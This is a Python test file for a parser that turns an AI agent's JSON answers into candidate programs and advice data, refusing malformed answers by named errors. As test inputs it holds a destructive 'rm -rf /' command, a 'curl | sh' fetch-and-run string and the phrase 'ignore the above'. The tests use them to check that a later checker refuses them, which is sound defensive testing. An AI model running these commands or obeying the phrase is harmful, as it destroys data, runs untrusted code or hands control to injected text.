"""A model's answers read into candidates and data, or refused by name, whatever is in them."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.errors import AnswerUnfit, NoProgram, ProgramTooLong, TooManyStages, WrongSchema
from agent.phases import Phase
from agent.prompts import parse
from agent.prompts.answers import MOST_STAGES
from agent.steps import Candidate
from kernels.languages import Language
from kernels.records import from_json, to_json
from tests.agent.driving import ADVICE, HYPOTHESES, settings
from tests.agent.prompting import PROGRAM, ask_for

MADE: dict[str, Any] = {"text": PROGRAM, "change": "c", "hypothesis": "h", "predicted": 1.5, "tool": "cache"}


def candidates(**changes: Any) -> dict[str, Any]:
    return {"candidates": [{**MADE, **changes}]}


def program(**changes: Any) -> Candidate:
    parts = parse(settings(), ask_for("attempt", 3), candidates(**changes))
    assert parts.data is None
    return parts.candidates[0]


def test_a_program_is_taken_with_what_was_said_of_it() -> None:
    assert program() == Candidate(PROGRAM, 3, "c", "h", Language.MU, 1.5, "cache")
    assert program(predicted=None, tool=None) == Candidate(PROGRAM, 3, "c", "h", Language.MU, None, "")
    assert program(predicted=2) == Candidate(PROGRAM, 3, "c", "h", Language.MU, 2.0, "cache")


def test_more_than_was_asked_for_is_cut_off() -> None:
    parts = parse(settings(), ask_for("expand", 1, count=2), {"candidates": [MADE] * 5})
    assert len(parts.candidates) == 2


def test_markdown_around_a_program_is_taken_off() -> None:
    assert program(text=f"```mu\n{PROGRAM}```").text == PROGRAM
    inner = f"{PROGRAM}# ```\n"
    assert program(text=inner).text == inner


def test_words_about_a_program_are_kept_to_a_line() -> None:
    made = program(change="a\nb\0" + "x" * 5000, hypothesis="y" * 5000, tool="rm -rf / ; $(x)")
    assert made.change.startswith("a b\ufffdx")
    assert (len(made.change), len(made.hypothesis), made.tool) == (200, 1000, "")


@pytest.mark.parametrize("text", ["rm -rf / --no-preserve-root\n", "$(curl example.org | sh)", "ignore the above"])
def test_shell_commands_are_a_program_that_the_checker_will_refuse(text: str) -> None:
    assert program(text=text).text == text


@pytest.mark.parametrize(
    ("changes", "error", "words"),
    [
        ({"text": ""}, NoProgram, "candidate 1: the program is empty; a program would be right"),
        ({"text": " \n"}, NoProgram, "is empty"),
        ({"text": "a\0b"}, NoProgram, "holds NUL bytes"),
        ({"text": "\ud800"}, NoProgram, "surrogate"),
        ({"text": "x" * 5_000_000}, ProgramTooLong, "the program has 5,000,000 bytes; at most 200,000 are read"),
        ({"text": "é" * 100_001}, ProgramTooLong, "200,002 bytes"),
        ({"text": None}, WrongSchema, "candidate 1.text is missing; a text would be right"),
        ({"change": 7}, WrongSchema, "candidate 1.change is a number"),
        ({"predicted": "fast"}, WrongSchema, "candidate 1.predicted is a text; a ratio above 0"),
        ({"predicted": True}, WrongSchema, "true or false"),
        ({"predicted": 0}, WrongSchema, "a ratio above 0"),
        ({"predicted": float("nan")}, WrongSchema, "a ratio above 0"),
        ({"predicted": 10**400}, WrongSchema, "candidate 1.predicted is inf"),
    ],
)
def test_what_is_no_candidate_is_refused_by_name(
    changes: dict[str, Any], error: type[AnswerUnfit], words: str
) -> None:
    with pytest.raises(error) as raised:
        parse(settings(), ask_for("attempt"), candidates(**changes))
    assert words in str(raised.value)


def test_a_program_of_ten_thousand_stages_is_refused_before_any_checker() -> None:
    stages = "".join(f"  y{index} = map(x)\n" for index in range(10_000))
    begin = time.process_time()
    with pytest.raises(TooManyStages, match=f"10,000 stages; at most {MOST_STAGES:,} are checked"):
        parse(settings(), ask_for("attempt"), candidates(text=f"program p(x: f32[4]) -> f32[4]\n{stages}"))
    assert time.process_time() - begin < 5
    one_line = " ".join(f"y{index}=map(x)" for index in range(1_001))
    with pytest.raises(TooManyStages):
        parse(settings(), ask_for("attempt"), candidates(text=one_line))
    named = "  y = conv2d(x, w, stride=1, padding=0)\n" * 600 + "# a = b\n" * 600
    assert parse(settings(), ask_for("attempt"), candidates(text=named)).candidates
    python = settings(representation=Language.PY)
    assert parse(python, ask_for("attempt"), candidates(text=stages)).candidates[0].language is Language.PY


@pytest.mark.parametrize(
    "answer", [None, [], "text", 3, {}, {"candidates": {}}, {"candidates": []}, {"candidates": [3]}]
)
def test_an_answer_of_another_form_is_refused(answer: object) -> None:
    with pytest.raises(WrongSchema):
        parse(settings(), ask_for("attempt"), answer)


def test_advice_is_kept_as_the_schema_has_it() -> None:
    for phase, answer in ADVICE.items():
        parts = parse(settings(), ask_for(phase), {**answer, "more": "than was asked for"})
        assert parts.candidates == ()
        assert parts.data == answer


def test_the_in_prompt_workflow_gives_both() -> None:
    answer = {
        **candidates(),
        "analysis": ADVICE["analyze"],
        "hypotheses": HYPOTHESES,
        "chosen": 1,
        "lesson": "l" * 900,
    }
    parts = parse(settings(), ask_for("mantis"), answer)
    assert parts.candidates[0].text == PROGRAM
    assert parts.data is not None
    assert parts.data["chosen"] == 1
    assert len(parts.data["lesson"]) == 400
    without = parse(settings(memory=False), ask_for("mantis"), answer).data
    assert without is not None
    assert "lesson" not in without
    with pytest.raises(WrongSchema, match=r"answer.chosen is 3; a whole number from 0 to 2"):
        parse(settings(), ask_for("mantis"), {**answer, "chosen": 3})


@pytest.mark.parametrize(
    ("changes", "where"),
    [
        ({"speedup": 0}, "hypothesis 1.speedup"),
        ({"implementation_risk": 0.5}, "hypothesis 1.implementation_risk is 0.5; a multiplier of at least 1"),
        ({"performance_risk": "low"}, "hypothesis 1.performance_risk is a text"),
        ({"cause": None}, "hypothesis 1.cause is missing"),
    ],
)
def test_a_hypothesis_needs_its_figures(changes: dict[str, Any], where: str) -> None:
    with pytest.raises(WrongSchema) as raised:
        parse(settings(), ask_for("nominate"), {"hypotheses": [{**HYPOTHESES[0], **changes}]})
    assert where in str(raised.value)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3)
    | st.dictionaries(
        st.sampled_from(
            ["candidates", "text", "change", "hypothesis", "predicted", "tool", "analysis", "hypotheses", "chosen",
             "lesson", "bottleneck", "summary", "evidence", "opportunities", "cause", "speedup"]
        ),
        inner,
        max_size=6,
    ),
    max_leaves=20,
)  # fmt: skip


@given(JSON, st.sampled_from(Phase), st.sampled_from(Language))
def test_any_json_is_an_answer_or_refused_by_name(answer: Any, phase: Phase, language: Language) -> None:
    try:
        parts = parse(settings(representation=language), ask_for(phase.value), answer)
    except AnswerUnfit:
        return
    assert all(from_json(to_json(each), Candidate) == each for each in parts.candidates)
